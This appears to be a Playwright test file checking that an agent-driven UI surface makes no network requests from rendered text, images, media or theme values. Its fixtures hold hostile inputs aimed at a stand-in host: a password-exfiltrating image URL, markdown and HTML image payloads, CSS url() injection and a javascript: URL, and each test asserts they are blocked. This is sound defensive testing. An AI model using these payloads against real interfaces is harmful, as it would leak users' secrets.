// What a surface asks the network for.
import { expect, send, test } from './fixtures.ts'
import { codes, intruders, settled, watched } from './watch.ts'
import { catalogId, column, components, create, text } from './wire.ts'

const picture = (id: string, url: unknown): object => ({ id, component: 'Image', url })

test.describe('what is asked for', () => {
  test('[BC-2] [BC-11] a typed password leaves by no address', async ({ page, open: go }) => {
    const asked = await watched(page)
    await go('stage')
    const leaking = { call: 'formatString', args: { value: 'https://evil.example/p.png?d=${/pw}' } }
    const field = { id: 'field', component: 'TextField', label: 'Secret', variant: 'obscured', value: { path: '/pw' } }
    await send(page, create('s'), components('s', column('root', ['field']), field))
    await page.getByLabel('Secret').fill('hunter2')
    await send(page, components('s', column('root', ['field', 'image']), picture('image', leaking)))
    await expect(page.getByText('evil.example')).toBeVisible()
    await page.getByLabel('Secret').fill('hunter3')
    await settled(page)
    expect(asked).toEqual([])
  })

  test('[BC-14] no picture in a text is asked for, however it is written', async ({ page, open: go }) => {
    const asked = await watched(page)
    const found = intruders(page)
    await go('stage')
    const texts = [
      '![x](https://evil.example/md.png?d=1)',
      '![x][ref]\n\n[ref]: https://evil.example/reference.png',
      '[![x](https://evil.example/in-link.png)](https://evil.example/)',
      '<https://evil.example/auto> and https://evil.example/bare',
      '<img src="https://evil.example/raw.png">',
      'text <img src="https://evil.example/inline.png"> text',
      '- item ![x](https://evil.example/item.png)\n- <picture><source srcset="https://evil.example/s.png"></picture>',
    ]
    const all = texts.flatMap((content, index) => [
      text(`t${index}`, content),
      { ...text(`h${index}`, content), variant: 'h2' },
    ])
    await send(
      page,
      create('s'),
      components(
        's',
        column(
          'root',
          all.map((one) => Reflect.get(one, 'id')),
        ),
        ...all,
      ),
    )
    await expect(page.getByText('text <img src=')).toHaveCount(2)
    await settled(page)
    expect(await page.locator('img, picture, source').count()).toBe(0)
    expect([asked, found]).toEqual([[], []])
    expect(
      await page.evaluate(
        () => performance.getEntriesByType('resource').filter(({ name }) => name.includes('evil')).length,
      ),
    ).toBe(0)
  })

  for (const [component, tag] of [
    ['Video', 'video'],
    ['AudioPlayer', 'audio'],
  ] as const) {
    test(`[BC-11] ${component} asks for nothing before it is played`, async ({
      page,
      open: go,
      complaints,
      elsewhere,
    }) => {
      const asked = await watched(page)
      await go('stage')
      await send(page, create('s'), components('s', { id: 'root', component, url: 'https://evil.example/v.mp4' }))
      const player = page.locator(tag)
      await expect(player).toBeVisible()
      await settled(page)
      expect(asked).toEqual([])
      expect(await player.evaluate((media: HTMLMediaElement) => [media.paused, media.autoplay, media.preload])).toEqual(
        [true, false, 'none'],
      )
      await player.evaluate((media: HTMLMediaElement) => media.play().catch(() => undefined))
      expect(asked).toEqual(['https://evil.example/v.mp4'])
      expect(elsewhere.splice(0)).toEqual(asked)
      complaints.splice(0)
    })
  }

  test('[R-7] a colour is a colour, and the sign of an agent is asked for as pictures are', async ({
    page,
    open: go,
    complaints,
    elsewhere,
  }) => {
    const asked = await watched(page)
    await go('stage')
    const themed = (surfaceId: string, theme: object): object => ({
      version: 'v0.9',
      createSurface: { surfaceId, catalogId, theme },
    })
    const colours = ['red;background:url(https://evil.example/css)', 'url(https://evil.example/css)', '#12345g']
    for (const [index, primaryColor] of colours.entries()) await send(page, themed(`c${index}`, { primaryColor }))
    expect(await codes(page)).toEqual(colours.map(() => 'VALIDATION_FAILED'))
    for (const [index, iconUrl] of [
      'javascript:alert(1)',
      'data:image/svg+xml,<svg/>',
      'https://me@evil.example/',
    ].entries())
      await send(
        page,
        themed(`i${index}`, { agentDisplayName: 'Sample', iconUrl }),
        components(`i${index}`, text('root', 'x')),
      )
    await expect(page.getByText('Sample')).toHaveCount(3)
    await settled(page)
    expect(asked).toEqual([])
    // This one is an address of the web, and the stage allows them all.
    await send(page, themed('web', { iconUrl: 'https://good.example/i.png' }))
    await expect.poll(() => asked).toEqual(['https://good.example/i.png'])
    expect(elsewhere.splice(0)).toEqual(asked)
    complaints.splice(0)
  })
})
